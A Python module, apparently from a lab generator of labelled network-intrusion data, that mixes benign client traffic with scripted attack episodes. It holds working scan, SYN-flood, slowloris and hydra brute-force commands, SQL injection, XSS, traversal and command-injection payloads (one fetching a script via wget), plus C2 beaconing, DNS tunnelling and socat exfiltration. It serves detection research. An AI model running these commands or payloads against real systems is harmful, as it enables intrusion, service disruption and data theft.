"""Scenarios: benign client loops and attack episodes, each run with real tools and
bounded in time (per-tool timeout) and count. Randomness comes only from the seeded
rng passed in, so a seed fixes the mix, order, targets and sizes.

Each attacker host sends only attack traffic; each episode records one label row
from the wall clock around its tool run.
"""
import os
import threading
import time

from .topology import ip_of
from .services import ZONE, DNS_NAMES, LAB_USER
from . import benign_more

SSH_OPTS = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
            "-o", "ConnectTimeout=5", "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no"]

# BENIGN1: the original mix; BENIGN2 (lab/benign_more.py): kinds added for issue 11,
# so a model trained on one mix can be measured on the other.
BENIGN1 = ["web_http", "web_https", "wget_crawl", "dns", "ssh_session", "scp", "bulk_download",
           "bulk_upload", "idle_keepalive"]
BENIGN2 = benign_more.BENIGN2
BENIGN = BENIGN1 + BENIGN2
# attacker host -> its episode classes
ATTACKS = {
    "scan": ["scan_syn", "scan_connect", "scan_udp", "scan_version", "scan_masscan"],
    "brute": ["bruteforce_ssh", "bruteforce_http", "dos_synflood", "dos_slowloris",
              "web_sqli", "web_xss", "web_traversal", "web_cmdinj"],
    "implant": ["c2_beacon", "dns_tunnel", "exfiltration"],
}
ALL_ATTACKS = [c for v in ATTACKS.values() for c in v]
SERVERS = ["web", "ssh", "dns", "bulk"]


class Ctx:
    """What scenarios need: the lab, work dir, secrets, label log, stop time, counters."""

    def __init__(self, lab, work, labels, ssh_pw, admin_pw, stop_at, tool_timeout):
        self.lab, self.work, self.labels = lab, work, labels
        self.ssh_pw, self.admin_pw = ssh_pw, admin_pw
        self.stop_at, self.tool_timeout = stop_at, tool_timeout
        self.counts = {}
        self.errors = []
        self.log_path = None
        self.lock = threading.Lock()

    def tool_log(self, host, cmd, rc, out):
        """Attack tool output goes to OUT/tools.log (benign output is discarded)."""
        if self.log_path:
            with self.lock, open(self.log_path, "a") as f:
                f.write(f"=== {time.time():.3f} {host} rc={rc}: {' '.join(cmd)}\n{out[-3000:]}\n")

    def count(self, what, n=1):
        self.counts[what] = self.counts.get(what, 0) + n

    def left(self):
        return self.stop_at - time.time()


# ---------------------------------------------------------------- benign
def _pages(rng, n):
    return [f"page{rng.randrange(40)}.html" for _ in range(n)] + (["index.html"] if rng.random() < 0.5 else [])


def benign_action(ctx, host, kind, rng):
    lab, t = ctx.lab, min(ctx.tool_timeout, max(5, ctx.left() + 5))
    web, bulk, ssh = ip_of("web"), ip_of("bulk"), ip_of("ssh")
    if kind in BENIGN2:
        benign_more.action(ctx, host, kind, rng, SSH_OPTS, LAB_USER)
    elif kind in ("web_http", "web_https"):
        scheme = "http" if kind == "web_http" else "https"
        urls = [f"{scheme}://{web}/{p}" for p in _pages(rng, rng.randint(2, 12))]
        cmd = ["curl", "-sk", "--max-time", "10"]
        if rng.random() < 0.5:
            cmd += ["-H", "Connection: close"]  # one TCP connection per page
        for u in urls:
            cmd += ["-o", "/dev/null", u]
        lab.run(host, cmd, t)
    elif kind == "wget_crawl":
        d = os.path.join(ctx.work, f"wget-{host}")
        lab.run(host, ["wget", "-q", "-r", "-l", "1", "--delete-after", "--no-check-certificate",
                       "-P", d, f"{rng.choice(['http', 'https'])}://{web}/index.html"], t)
    elif kind == "dns":
        names = []
        for _ in range(rng.randint(100, 800)):
            r = rng.random()
            if r < 0.6:
                names.append(f"{rng.choice(DNS_NAMES)}.{ZONE} {rng.choice(['A', 'A', 'AAAA', 'MX', 'TXT'])}")
            elif r < 0.9:
                names.append(f"img{rng.randrange(1000)}.cdn.{ZONE} A")
            else:
                names.append(f"nohost{rng.randrange(1000)}.{ZONE} A")
        f = os.path.join(ctx.work, f"dig-{host}.txt")
        with open(f, "w") as fh:
            fh.write("\n".join(names) + "\n")
        lab.run(host, ["dig", f"@{ip_of('dns')}", "-f", f, "+tries=1", "+time=1", "+noall", "+answer"], t)
        ctx.count("dns_queries", len(names))
    elif kind == "ssh_session":
        cmds = rng.sample(["uname -a", "ls -la", "id", "df -h", "cat /etc/os-release", "ps ax | head",
                           "echo hello > note.txt", "cat note.txt", "uptime", "free -m"], 4)
        lab.run(host, ["sshpass", "-p", ctx.ssh_pw, "ssh"] + SSH_OPTS + [f"{LAB_USER}@{ssh}", "; ".join(cmds)], t)
    elif kind == "scp":
        src = os.path.join(ctx.work, f"scp-{host}.bin")
        with open(src, "wb") as f:
            f.write(rng.randbytes(rng.randint(20_000, 2_000_000)))
        lab.run(host, ["sshpass", "-p", ctx.ssh_pw, "scp", "-q"] + SSH_OPTS + [src, f"{LAB_USER}@{ssh}:up-{host}.bin"], t)
        lab.run(host, ["sshpass", "-p", ctx.ssh_pw, "scp", "-q"] + SSH_OPTS +
                [f"{LAB_USER}@{ssh}:up-{host}.bin", src + ".back"], t)
    elif kind == "bulk_download":
        name = rng.choice(["small.bin", "medium.bin", "large.bin"])
        lab.run(host, ["curl", "-s", "--max-time", "20", "-o", "/dev/null", f"http://{bulk}/files/{name}"], t)
    elif kind == "bulk_upload":
        src = os.path.join(ctx.work, f"up-{host}.bin")
        with open(src, "wb") as f:
            f.write(rng.randbytes(rng.randint(100_000, 4_000_000)))
        lab.run(host, ["curl", "-s", "--max-time", "20", "-T", src, "-o", "/dev/null",
                       f"http://{bulk}/upload/{host}-{rng.randrange(1000)}.bin"], t)
    elif kind == "idle_keepalive":
        # An SSH session idling with keep-alive probes every second.
        secs = rng.randint(3, 8)
        lab.run(host, ["sshpass", "-p", ctx.ssh_pw, "ssh"] + SSH_OPTS + ["-o", "ServerAliveInterval=1",
                       f"{LAB_USER}@{ssh}", f"sleep {secs}"], t + secs)
    ctx.count(kind)


def benign_loop(ctx, host, kinds, rng, stop_event):
    weights = {"dns": 3, "web_http": 3, "web_https": 3, "lan_chatter": 2, "https_download": 2}
    pool = [k for k in kinds for _ in range(weights.get(k, 1))]
    while not stop_event.is_set() and ctx.left() > 0:
        try:
            benign_action(ctx, host, rng.choice(pool), rng)
        except Exception as e:  # a failing benign tool must not stop the run
            ctx.errors.append(f"{host}: {e}")
        stop_event.wait(rng.uniform(0.05, 0.6))


# ---------------------------------------------------------------- attacks
def _episode(ctx, cls, host, victim, proto, port, fn):
    t0 = time.time()
    fn()
    t1 = time.time()
    ctx.labels.add(cls, ip_of(host), victim, proto, port, t0, t1)
    ctx.count(cls)


def attack(ctx, cls, host, rng):
    lab, T = ctx.lab, ctx.tool_timeout
    def run(cmd, t=T):
        rc, out = lab.run(host, cmd, t)
        ctx.tool_log(host, cmd, rc, out)
        return rc, out
    if cls.startswith("scan_") and cls != "scan_masscan":
        victim = rng.choice(SERVERS)
        vip = ip_of(victim)
        if cls == "scan_syn":
            args, proto = ["-sS", "-p", f"1-{rng.choice([200, 500, 1000])}", "--max-rate", "800"], "tcp"
        elif cls == "scan_connect":
            args, proto = ["-sT", "-p", f"1-{rng.choice([100, 200, 300])}", "--max-rate", "400"], "tcp"
        elif cls == "scan_udp":
            args, proto = ["-sU", "-p", "53,67,69,123,137,161,500,514,1900,5353", "--max-retries", "1"], "udp"
        else:
            args, proto = ["-sV", "--version-light", "-p", "22,53,80,443,8080"], "tcp"
        _episode(ctx, cls, host, vip, proto, None,
                 lambda: run(["nmap", "-n", "-Pn", "-T4", "--host-timeout", "25s"] + args + [vip], 35))
    elif cls == "scan_masscan":
        victim = rng.choice(SERVERS)
        vip, mac = ip_of(victim), lab.mac_of(victim)
        # masscan has its own stack: it sends to --router-mac, so give it the victim's MAC.
        _episode(ctx, cls, host, vip, "tcp", None, lambda: run(
            ["masscan", vip, "-p", f"1-{rng.choice([500, 1000, 2000])}", "--rate", "500", "--wait", "1",
             "--adapter", "eth0", "--adapter-ip", ip_of(host), "--router-mac", mac], 20))
    elif cls == "dos_synflood":
        victim = rng.choice(["web", "bulk"])
        n = rng.randint(1000, 2500)
        _episode(ctx, cls, host, ip_of(victim), "tcp", 80,
                 lambda: run(["hping3", "-q", "-S", "-p", "80", "-i", "u2000", "-c", str(n), ip_of(victim)], 20))
    elif cls == "bruteforce_ssh":
        words = [f"pass{rng.randrange(10000)}" for _ in range(rng.randint(30, 60))]
        if rng.random() < 0.5:
            words.append(ctx.ssh_pw)
        wl = os.path.join(ctx.work, "ssh-words.txt")
        with open(wl, "w") as f:
            f.write("\n".join(words) + "\n")
        _episode(ctx, cls, host, ip_of("ssh"), "tcp", 22, lambda: run(
            ["hydra", "-I", "-f", "-t", "4", "-w", "5", "-l", LAB_USER, "-P", wl, f"ssh://{ip_of('ssh')}"], 30))
    elif cls == "bruteforce_http":
        words = [f"admin{rng.randrange(10000)}" for _ in range(rng.randint(20, 40))] + [ctx.admin_pw]
        wl = os.path.join(ctx.work, "http-words.txt")
        with open(wl, "w") as f:
            f.write("\n".join(words) + "\n")
        _episode(ctx, cls, host, ip_of("web"), "tcp", 80, lambda: run(
            ["hydra", "-I", "-f", "-t", "4", "-l", "admin", "-P", wl, ip_of("web"), "http-get", "/admin/"], 30))
    elif cls == "dos_slowloris":
        secs = rng.randint(6, 10)
        _episode(ctx, cls, host, ip_of("web"), "tcp", 80, lambda: run(
            ["slowhttptest", "-H", "-c", str(rng.choice([80, 120, 150])), "-r", "50", "-i", "3", "-l", str(secs),
             "-x", "24", "-p", "3", "-u", f"http://{ip_of('web')}/index.html"], secs + 15))
    elif cls.startswith("web_"):
        payloads = {
            "web_sqli": ["/page1.html?id=1'%20OR%20'1'='1", "/index.html?user=admin'--",
                         "/page2.html?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
                         "/search?q=1;DROP%20TABLE%20users--", "/page3.html?id=1%20AND%20SLEEP(5)"],
            "web_xss": ["/search?q=<script>alert(1)</script>", "/page1.html?name=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
                        "/index.html?r=<img%20src=x%20onerror=alert(1)>", "/page2.html?x=javascript:alert(1)"],
            "web_traversal": ["/../../../../etc/passwd", "/files/..%2f..%2f..%2fetc%2fshadow",
                              "/page1.html?file=../../../../etc/passwd", "/static/%2e%2e/%2e%2e/%2e%2e/etc/hosts"],
            "web_cmdinj": ["/cgi-bin/ping?host=127.0.0.1;cat%20/etc/passwd", "/index.html?cmd=|id",
                           "/page1.html?ip=1.1.1.1%26%26whoami", "/api?exec=$(uname%20-a)",
                           "/page2.html?f=`wget%20http://198.18.10.102/x.sh`"],
        }[cls]
        urls = [rng.choice(payloads) for _ in range(rng.randint(4, 10))]
        scheme, port = ("http", 80)
        def go():
            for u in urls:
                run(["curl", "-s", "-g", "--path-as-is", "-o", "/dev/null", "--max-time", "5",
                     f"{scheme}://{ip_of('web')}{u}"], 10)
                time.sleep(rng.uniform(0.05, 0.3))
        _episode(ctx, cls, host, ip_of("web"), "tcp", port, go)
    elif cls == "c2_beacon":
        n = rng.randint(8, 14)  # beaconing is judged over >= 8 connections (fewer is no pattern)
        period = rng.uniform(1.0, 2.0)
        def go():
            for i in range(n):
                run(["curl", "-sk", "-o", "/dev/null", "--max-time", "5", "-A", "Mozilla/5.0",
                     f"https://{ip_of('c2')}/api/beacon?id={rng.getrandbits(32):08x}&seq={i}"], 10)
                time.sleep(period * rng.uniform(0.7, 1.3))
        _episode(ctx, cls, host, ip_of("c2"), "tcp", 443, go)
    elif cls == "dns_tunnel":
        n, rate = rng.randint(30, 60), rng.uniform(4, 8)
        data = rng.randbytes(n * 30)
        def go():
            import base64
            for i in range(n):
                chunk = base64.b32encode(data[i * 30:(i + 1) * 30]).decode().rstrip("=").lower()
                name = f"{chunk}.{i:04x}.t.{ZONE}"
                run(["dig", f"@{ip_of('dns')}", name, rng.choice(["TXT", "A", "NULL"]), "+tries=1", "+time=1"], 5)
                time.sleep(1.0 / rate)
        _episode(ctx, cls, host, ip_of("dns"), "udp", 53, go)
    elif cls == "exfiltration":
        src = os.path.join(ctx.work, "exfil.bin")
        with open(src, "wb") as f:
            f.write(rng.randbytes(rng.randint(5, 20) << 20))
        _episode(ctx, cls, host, ip_of("c2"), "tcp", 4444,
                 lambda: run(["socat", "-u", f"FILE:{src}", f"TCP:{ip_of('c2')}:4444"], 30))
    else:
        raise ValueError(f"unknown attack class {cls}")


def attacker_loop(ctx, host, classes, rng, stop_event, budget):
    """Run classes in seeded order, spreading them over budget seconds with random gaps."""
    classes = list(classes)
    rng.shuffle(classes)
    stop_event.wait(rng.uniform(1.0, 3.0))
    t_start = time.time()
    for i, cls in enumerate(classes):
        if stop_event.is_set():
            return
        try:
            attack(ctx, cls, host, rng)
        except Exception as e:
            ctx.errors.append(f"{host} {cls}: {e}")
        left = budget - (time.time() - t_start)
        remaining = len(classes) - i - 1
        if remaining:
            stop_event.wait(rng.uniform(0.5, max(0.6, 1.6 * left / (remaining + 1))))
